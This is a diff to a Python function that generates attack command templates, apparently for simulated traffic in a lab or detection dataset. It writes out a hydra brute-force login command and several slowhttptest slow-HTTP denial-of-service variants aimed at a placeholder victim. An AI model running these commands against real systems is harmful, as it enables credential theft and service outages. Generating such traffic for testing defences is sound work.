@@ -107,13 +107,14 @@ def attacks(chance: random.Random) -> Iterator[Take]:
             ((a, f"hydra -I -q -l admin -P {{folder}}/passwords -t {tasks} {target}"),),
             60,
         )
-    mode = chance.choice(("-H", "-B"))
-    yield Take(
-        "slow_http",
-        "slow_http",
-        ((a, f"slowhttptest -c {chance.randrange(90, 300)} {mode} -i 5 -r 60 -l 24 -u http://{{victim}}/"),),
-        28,
-    )
+    for name, mode, target in (("slow_head", "-H", "{victim}/"), ("slow_body", "-B", "{victim}/take")):
+        held, pause = chance.randrange(90, 300), chance.choice((4, 5))
+        words = f"slowhttptest -c {held} {mode} -i {pause} -r 60 -l 24 -u http://{target}"
+        yield Take(name, "slow_http", ((a, words),), 28)
+    words = f"slowhttptest -c {chance.randrange(90, 300)} -B -i 5 -r 60 -l 24 -u http://{{victim}}/"
+    yield Take("slow_refused", "slow_http", ((a, words),), 28)
+    words = f"slowhttptest -c {chance.randrange(90, 300)} -H -i 5 -r 60 -l 24 -u https://{{victim}}/"
+    yield Take("slow_hidden", "slow_http", ((a, words),), 28)
     yield Take(
         "amplified",
         "amplification",
